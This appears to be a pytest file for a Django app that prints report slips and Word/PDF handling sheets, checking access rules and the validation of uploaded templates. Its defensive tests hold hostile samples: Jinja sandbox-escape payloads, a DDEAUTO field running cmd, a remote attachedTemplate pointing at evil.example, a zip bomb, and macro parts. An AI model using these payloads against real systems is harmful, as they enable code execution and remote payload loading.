@@ -1,0 +1,286 @@
+"""Slips for reporters, and the handling sheet in Word and PDF from the same fields."""
+
+from __future__ import annotations
+
+import io
+import re
+import zipfile
+from typing import Any
+
+import pytest
+from docx import Document
+
+from minqing.core.errors import Invalid, Refused
+from minqing.journal.models import Event
+from minqing.matters import services
+from minqing.matters.enums import State
+from minqing.matters.models import Matter, Reporter, SheetTemplate, Step
+from minqing.matters.printing import slips_of
+from minqing.matters.sheets import sheet_data
+from minqing.matters.sheets.checking import check_template
+from minqing.matters.sheets.data import FIELDS, LISTS, sample
+from minqing.matters.sheets.standard import standard_template
+from minqing.matters.sheets.word import filled
+from minqing.matters.tickets import follow_code_of, spaced, ticket_of
+from minqing.org.queries import system_actor
+from minqing.privacy.access import acting_as
+from tests.cast import Cast, at, category
+
+pytestmark = pytest.mark.django_db
+HOSTILE = "{{ 7*7 }} {% for x in y %} <w:p><w:r/></w:p> &lt;b> \x07\x0c\x13 DDEAUTO c:\\\\cmd\u202egpj ]]>"
+
+
+def template(*paragraphs: str) -> bytes:
+    document = Document()
+    for text in paragraphs:
+        document.add_paragraph(text)
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def with_part(content: bytes, name: str, data: bytes) -> bytes:
+    """The same archive with one more part, or another one in place of that."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
+        for part in old.infolist():
+            if part.filename != name:
+                new.writestr(part, old.read(part))
+        new.writestr(name, data)
+    return out.getvalue()
+
+
+def changed(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        data = archive.read(name)
+    assert old in data
+    return with_part(content, name, data.replace(old, new, 1))
+
+
+def text_of(docx: bytes) -> str:
+    document = Document(io.BytesIO(docx))
+    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
+    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])
+
+
+def sheet(cast: Cast, role: str, matter: Matter, kind: str = "docx", **asked: str) -> Any:
+    return cast.client(role).get(f"/matters/{matter.pk}/sheet.{kind}", asked)
+
+
+def lived(cast: Cast, **values: Any) -> Matter:
+    given = {"state": State.FINISHED, "lead_unit": cast.bureau, "finished_at": at("2026-10-01 09:00")}
+    matter = cast.matter(category=category("building.municipal"), answers={"what": "lamp"}, **given | values)
+    with cast.everything():
+        for move, text, public in (("finish", "已换新灯。", True), ("note", "CANARY-INTERNAL", False)):
+            Step.objects.create(
+                matter=matter, move=move, state=State.FINISHED, at=at("2026-10-01 09:00"), by="system:test",
+                unit=cast.bureau, text=text, public=public,
+            )  # fmt: skip
+        Reporter.objects.create(matter=matter, name="CANARY-NAME", phone="13800138000", contact="白天打")
+    return matter
+
+
+def test_a_slip_has_number_code_link_words_and_whom_to_ask(cast: Cast) -> None:
+    matter = cast.matter(text="村口路灯坏了三天。" * 20)
+    with cast.everything():
+        cast.committee.phone = "0575-83000001"
+        cast.committee.save()
+        (slip,) = slips_of([Matter.objects.select_related("area").get()], address="https://x/m/")
+    assert slip.code == spaced(follow_code_of(matter.pk))
+    assert slip.said.startswith("村口路灯坏了三天。")
+    assert len(slip.said) <= 66
+    assert ("棠溪村村委会", "0575-83000001") in slip.offices
+    assert ticket_of(matter.pk) not in slip.qr  # it is drawn, not written
+
+
+def test_a_slip_of_a_confidential_matter_says_nothing_of_it(cast: Cast) -> None:
+    cast.matter(confidential=True, title="家事", text="家事")
+    with cast.everything():
+        assert slips_of([Matter.objects.select_related("area").get()], address="")[0].said == ""
+
+
+@pytest.mark.parametrize("role", ["cadre", "clerk", "village_secretary"])
+def test_slips_are_printed_by_those_who_look_after_the_place_and_journalled(cast: Cast, role: str) -> None:
+    matter = cast.matter()
+    answer = cast.client(role).get(f"/matters/{matter.pk}/slip.pdf")
+    assert answer.content.startswith(b"%PDF")
+    assert "no-store" in answer["Cache-Control"]
+    assert Event.objects.get(type="matters.slip.printed").subject == f"matter:{matter.pk}"
+
+
+def test_no_unit_gets_the_code_of_what_it_handles(cast: Cast) -> None:
+    matter = cast.matter(state=State.ASSIGNED, lead_unit=cast.bureau)
+    assert cast.client("handler").get(f"/matters/{matter.pk}/slip.pdf").status_code == 403
+
+
+def test_several_slips_are_those_of_the_list(cast: Cast) -> None:
+    for area in (cast.own, cast.own, cast.far):
+        cast.matter(area)
+    assert cast.client("cadre").get("/matters/slips.pdf", {"state": "received"}).status_code == 200
+    assert Event.objects.filter(type="matters.slip.printed").count() == 2
+    assert cast.client("cadre").get("/matters/slips.pdf", {"state": "withdrawn"}).status_code == 404
+
+
+@pytest.mark.parametrize("kind", ["docx", "pdf"])
+def test_the_sheet_is_printed_by_those_who_work_on_it_and_journalled(cast: Cast, kind: str) -> None:
+    matter = lived(cast)
+    answer = sheet(cast, "handler", matter, kind)
+    assert answer.content[:2] in {b"PK", b"%P"}
+    assert f"{matter.number}.{kind}" in answer["Content-Disposition"]
+    event = Event.objects.get(type="matters.sheet.printed")
+    assert event.data == {"number": matter.number, "kind": kind, "reporter": False}
+    assert sheet(cast, "leader", matter, kind).status_code == 403
+    assert sheet(cast, "far_clerk", matter, kind).status_code == 404
+    assert sheet(cast, "handler", matter, "exe").status_code == 404
+
+
+def test_the_sheet_says_what_was_said_asked_and_done_and_no_remark_between_offices(cast: Cast) -> None:
+    matter = lived(cast)
+    shown = text_of(sheet(cast, "handler", matter).content)
+    for word in (matter.number, "路灯不亮", "村口路灯坏了三天。", "已换新灯。", "路灯", "市交通运输局", "棠溪村"):
+        assert word in shown
+    assert "CANARY" not in shown
+    assert "{" not in shown
+
+
+def test_name_and_telephone_stand_on_it_only_for_those_who_may_see_them(cast: Cast) -> None:
+    matter = lived(cast)
+    assert "13800138000" in text_of(sheet(cast, "handler", matter, reporter="yes").content)
+    assert Event.objects.get(type="matters.sheet.printed").data["reporter"] is True
+    hidden = lived(cast, confidential=True, lead_unit=cast.office)
+    assert sheet(cast, "cadre", hidden, reporter="yes").status_code == 404
+    assert "13800138000" in text_of(sheet(cast, "clerk", hidden, reporter="yes").content)
+
+
+def test_every_field_of_the_guide_is_there_and_the_example_has_the_same(cast: Cast) -> None:
+    matter = lived(cast)
+    with acting_as(system_actor("test")):
+        given = sheet_data(Matter.objects.select_related("area", "category", "lead_unit").get(), named=True)
+    assert set(given) == {*FIELDS, *LISTS} == set(sample())
+    assert given["number"] == matter.number
+    for name, inner in LISTS.items():
+        assert all(set(row) == set(inner) for row in given[name])
+
+
+@pytest.mark.fault(36)
+def test_what_people_write_is_inert_in_word(cast: Cast) -> None:
+    matter = lived(cast, title=HOSTILE[:150], text=f"{HOSTILE}\n第二行")
+    content = sheet(cast, "handler", matter).content
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        xml = archive.read("word/document.xml").decode()
+    shown = text_of(content)
+    assert "{{ 7*7 }}" in shown
+    assert "<w:p><w:r/></w:p>" in shown
+    assert "第二行" in shown
+    assert not re.search("[\x07\x0c\x13\u202e]", xml)
+    assert "instrText" not in xml
+    assert "fldSimple" not in xml
+    assert sheet(cast, "handler", matter, "pdf").status_code == 200
+
+
+def test_the_sheet_of_the_software_passes_the_check_in_every_language() -> None:
+    for language in ("zh-hans", "en"):
+        check_template(standard_template(language))
+
+
+def test_a_countys_own_template_is_used_and_can_be_taken_back(cast: Cast) -> None:
+    matter = lived(cast)
+    by = system_actor("test")
+    own = template("本县办理单 {{ number }}", "{% for step in steps %}{{ loop.index }} {{ step.text }}{% endfor %}")
+    services.store_sheet_template(content=own, by=by)
+    services.store_sheet_template(content=own, by=by)
+    assert SheetTemplate.objects.count() == 1
+    assert f"本县办理单 {matter.number}" in text_of(sheet(cast, "handler", matter).content)
+    services.store_sheet_template(content=b"", by=by)
+    assert "本县办理单" not in text_of(sheet(cast, "handler", matter).content)
+    assert Event.objects.filter(type="matters.sheet.replaced").count() == 2
+
+
+def test_only_the_operator_changes_the_sheet(cast: Cast) -> None:
+    with pytest.raises(Refused):
+        services.store_sheet_template(content=template("{{ number }}"), by=cast.actor("clerk"))
+
+
+@pytest.mark.fault(38)
+@pytest.mark.parametrize(
+    "tag",
+    [
+        "{{ ''.__class__ }}",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        "{{ number|attr('__class__') }}",
+        "{{ steps.append(1) }}",
+        "{{ number.format(number) }}",
+        "{{ cycler.__init__.__globals__ }}",
+        "{{ self._TemplateReference__context }}",
+        "{{ 'a' * 1000000000 }}",
+        "{{ 9 ** 999999999 }}",
+        "{% set x = 1 %}",
+        "{% include 'x' %}",
+        "{% for a in steps %}{% for b in steps %}{% for c in steps %}x{% endfor %}{% endfor %}{% endfor %}",
+        "{{ range(10) }}",
+        "{{ number|safe }}",
+        "{% autoescape false %}{{ text }}{% endautoescape %}",
+    ],
+)
+def test_a_template_runs_no_code(tag: str) -> None:
+    with pytest.raises(Invalid) as refused:
+        check_template(template("{{ number }}", tag))
+    assert refused.value.code in {"template_code", "template_field", "template_syntax"}
+    assert str(refused.value.sentence)
+
+
+@pytest.mark.parametrize(
+    ("tag", "code"),
+    [("{{ nummer }}", "template_field"), ("{{ step.nothing }}", "template_field"), ("{{ number", "template_syntax"),
+     ("{% if x %}", "template_syntax"), ("{% for step in steps %}{{ step.nothing }}{% endfor %}", "template_field")],
+)  # fmt: skip
+def test_a_mistake_in_a_template_is_told_at_the_upload(tag: str, code: str) -> None:
+    with pytest.raises(Invalid) as refused:
+        check_template(template(tag))
+    assert refused.value.code == code
+
+
+@pytest.mark.fault(39)
+def test_a_bomb_is_refused_by_what_it_declares() -> None:
+    bomb = with_part(template("{{ number }}"), "word/media/image1.xml", b"\0" * 60_000_000)
+    assert len(bomb) < 200_000
+    with pytest.raises(Invalid) as refused:
+        check_template(bomb)
+    assert refused.value.code == "template_bomb"
+
+
+FIELD_CODE = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:r></w:p>'
+FIELD_TEXT = b'<w:p><w:fldSimple w:instr="HYPERLINK {{ text }}"/></w:p>'
+UNREADABLE = "template_unreadable"
+LOADS = (
+    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    b'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    ("content", "code"),
+    [
+        (b"", "template_unreadable"),
+        (b"PK\x03\x04 not really", "template_unreadable"),
+        (b"x" * 5_000_001, "template_large"),
+        (with_part(template("a"), "word/vbaProject.bin", b"x"), "template_macro"),
+        (with_part(template("a"), "word/embeddings/oleObject1.bin", b"x"), "template_macro"),
+        (changed(template("a"), "[Content_Types].xml", b"document.main", b"macroEnabled"), "template_macro"),
+        (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + FIELD_CODE), "template_codes"),
+        (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + FIELD_TEXT), "template_codes"),
+        (changed(template("a"), "word/_rels/document.xml.rels", b"</Relationships>", LOADS), "template_outside"),
+        (changed(template("a"), "word/document.xml", b"<w:document", b"<!DOCTYPE x><w:document"), UNREADABLE),
+        (with_part(template("a"), "word/document.xml", b"<broken"), "template_unreadable"),
+    ],
+    ids=lambda one: one if isinstance(one, str) else "",
+)  # fmt: skip
+def test_a_file_that_is_no_harmless_template_is_refused_with_a_sentence(content: bytes, code: str) -> None:
+    with pytest.raises(Invalid) as refused:
+        check_template(content)
+    assert refused.value.code == code
+
+
+def test_filled_values_never_become_tags() -> None:
+    fields = {**sample(), "title": "{{ number }}", "text": "{% if %}"}
+    assert "{{ number }}" in text_of(filled(template("{{ title }} {{ text }}"), fields))
